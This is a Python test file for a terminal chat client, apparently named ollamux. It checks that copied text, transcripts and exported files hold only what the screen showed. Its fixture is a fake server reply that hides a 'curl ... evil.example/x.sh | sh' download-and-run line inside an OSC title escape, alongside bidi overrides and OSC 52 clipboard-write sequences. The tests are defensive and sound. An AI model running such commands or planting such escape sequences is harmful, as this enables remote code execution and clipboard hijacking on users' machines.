"""What is copied or exported is what the screen showed: control sequences a
server sends are hidden on screen, so they never reach the clipboard or a file.

The reply below shows a bash block with only `ls -la` in it; the raw text also
holds an OSC title sequence that swallows a `curl | sh` line, CSI colours, a C1
control and bidi overrides.
"""

from __future__ import annotations

import json
import re
import stat

from ollamux.core.text import strip_control
from ollamux.ui.chat.message import ReplyView
from ollamux.ui.copy.mode import CopyMode
from ollamux.ui.markdown.streaming import StreamingMarkdown
from ollamux.ui.shared.dialogs import Choose
from tests.rawserver import Canned, RawServer
from tests.ui.test_copy_mode import app_with_sink, decoded
from tests.ui_helpers import ask, wait_until

HOSTILE = (
    "Run this:\n\n```bash\nls -la \x1b]0;\ncurl -s http://evil.example/x.sh | sh\n\x07\n```\n\n"
    "Then \x1b[31mred\x1b[0m, \x9b2J and a \u202eesrever\u202c word; in code: `a\u2066b\u2069`.\n"
)
# Anything a terminal would act on, and the bidi controls that make code read differently.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_server() -> RawServer:
    half = len(HOSTILE) // 2  # split mid-stream, as a network would
    lines = [
        {"message": {"role": "assistant", "content": HOSTILE[:half], "thinking": "plan \x1b]52;c;ZXZpbA==\x07ok"},
         "done": False},
        {"message": {"role": "assistant", "content": HOSTILE[half:]}, "done": False},
        {"message": {"role": "assistant", "content": ""}, "done": True, "done_reason": "stop", "eval_count": 9},
    ]
    chat = "".join(json.dumps(line) + "\n" for line in lines).encode()
    return RawServer(routes={
        "/api/chat": Canned(chunks=[chat], pause=0),
        "/api/tags": Canned(content_type="application/json", chunks=[b'{"models": []}'], pause=0),
        "/api/ps": Canned(content_type="application/json", chunks=[b'{"models": []}'], pause=0),
        "/api/version": Canned(content_type="application/json", chunks=[b'{"version": "0.30.0"}'], pause=0),
    })


async def copy_with(pilot, app, sink: list[str], key: str) -> str:
    await pilot.press("ctrl+y")
    await wait_until(pilot, lambda: isinstance(app.screen, CopyMode))
    count = len(sink)
    await pilot.press(key)
    await wait_until(pilot, lambda: len(sink) > count)
    return decoded(sink[-1])


async def test_copies_and_the_export_hold_what_the_screen_showed(tmp_path):
    sink: list[str] = []
    async with hostile_server() as server:
        app = app_with_sink(server.url, tmp_path, sink)
        async with app.run_test(size=(100, 30)) as pilot:
            view = await ask(pilot, "list files")
            shown = view.query_one(ReplyView).query_one(".answer", StreamingMarkdown).source
            assert "ls -la" in shown and "curl" not in shown and not UNSAFE.search(shown)

            # The code block: only what was on screen, not the hidden `curl | sh`.
            assert await copy_with(pilot, app, sink, "1") == "ls -la \n"
            # The whole reply, as the screen showed it; the transcript and the
            # double-clicked message likewise.
            assert await copy_with(pilot, app, sink, "r") == shown == strip_control(HOSTILE)
            transcript = await copy_with(pilot, app, sink, "t")
            assert shown.strip() in transcript and not UNSAFE.search(transcript)
            assert await pilot.double_click(view.query_one(ReplyView))
            await wait_until(pilot, lambda: decoded(sink[-1]) == shown)

            # Export: no control bytes either, private like the session files,
            # even where the folder was there with a looser mode; a file already
            # at the title's name is left alone.
            folder = tmp_path / "data" / "exports"
            folder.mkdir(parents=True, mode=0o755)
            folder.chmod(0o755)
            (folder / "list files.md").write_text("old")
            exported = folder / "list files (2).md"
            await pilot.press("f6")
            await wait_until(pilot, lambda: isinstance(app.screen, Choose))
            await pilot.press("t")  # with the thinking, which held an OSC 52 clipboard write
            await wait_until(pilot, exported.exists)
            assert (folder / "list files.md").read_text() == "old"
    text = exported.read_text(encoding="utf-8")
    assert "ls -la" in text and "plan ok" in text
    assert not UNSAFE.search(text) and "curl" not in text
    assert stat.S_IMODE(exported.stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


async def test_a_save_problem_printed_at_quit_carries_no_escape_sequence(sim, tmp_path, capfd):
    """Text written to the terminal after the app has gone is cleaned like the screen."""
    from ollamux.core.session import ChatMessage
    from tests.ui_helpers import make_app

    app = make_app(sim.url, "qwen3:8b", tmp_path)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, lambda: app.workbench.workspace.active_view is not None)
        session = app.workbench.workspace.active_view.session
        session.title = "\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07notes"  # as a session file may hold it
        session.messages.append(ChatMessage(role="user", content="hi"))
        app.keeper.store.unreadable.add(app.keeper.store.path_for(session))  # so the save at quit fails
    err = capfd.readouterr().err
    assert "could not save notes" in err and "\x1b" not in err and "\x07" not in err
